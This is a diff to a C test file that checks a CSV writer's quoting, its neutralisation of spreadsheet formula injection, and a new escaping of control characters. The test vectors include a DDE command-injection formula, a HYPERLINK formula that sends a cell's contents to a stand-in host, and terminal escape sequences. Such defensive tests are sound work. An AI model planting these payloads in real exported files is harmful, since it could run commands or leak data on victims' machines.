@@ -2,7 +2,8 @@
  * test_csv.c -- RFC 4180 records byte for byte: plain fields, fields that
  * need quoting (comma, quote, CR, LF), empty and NULL fields, CRLF ends;
  * text fields a spreadsheet would run as a formula neutralised (OWASP: a
- * single quote before = + - @ tab CR), numbers left as numbers.
+ * single quote before = + - @ tab CR), control characters escaped but the
+ * line break, numbers left as numbers.
  */
 #include <stdarg.h>
 #include <stddef.h>
@@ -22,7 +23,7 @@ static const struct row {
 	{ { "a,b" }, 1, "\"a,b\"\r\n" },
 	{ { "say \"hi\"" }, 1, "\"say \"\"hi\"\"\"\r\n" },
 	{ { "two\nlines", "x" }, 2, "\"two\nlines\",x\r\n" },
-	{ { "cr\r" }, 1, "\"cr\r\"\r\n" },
+	{ { "cr\r" }, 1, "cr\\x0d\r\n" },		/* a CR is escaped (below) */
 	{ { "", NULL, "z" }, 3, ",,z\r\n" },
 	{ { "\"" }, 1, "\"\"\"\"\r\n" },
 	{ { "fd00:5ca1:100::11", "rewritten" }, 2, "fd00:5ca1:100::11,rewritten\r\n" },
@@ -31,7 +32,13 @@ static const struct row {
 	  "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"open\"\")\"\r\n" },
 	{ { "=1+1", "+1+1", "-1+1", "@SUM(A1)" }, 4, "'=1+1,'+1+1,'-1+1,'@SUM(A1)\r\n" },
 	{ { "=cmd|' /C calc'!A0" }, 1, "'=cmd|' /C calc'!A0\r\n" },
-	{ { "\t=1+1", "\r=1+1" }, 2, "'\t=1+1,\"'\r=1+1\"\r\n" },
+	/* tab and CR lead no more once escaped: the cell starts with '\' */
+	{ { "\t=1+1", "\r=1+1" }, 2, "\\t=1+1,\\x0d=1+1\r\n" },
+	/* controls escaped but the line break, backslashes kept, C1 and
+	 * invalid UTF-8 escaped, the rest of UTF-8 kept */
+	{ { "a\x1b[2J\x07", "x\xc2\x9b" "1\xff", "caf\xc3\xa9 \\x" }, 3,
+	  "a\\x1b[2J\\x07,x\\u009b1\\xff,caf\xc3\xa9 \\x\r\n" },
+	{ { "=a\x1b" }, 1, "'=a\\x1b\r\n" },
 	{ { "-", "=" }, 2, "'-,'=\r\n" },
 	/* inside a cell they are harmless, and stay as they are */
 	{ { "a=1", "syn-dropped", "lab @ west", "1+1" }, 4, "a=1,syn-dropped,lab @ west,1+1\r\n" },
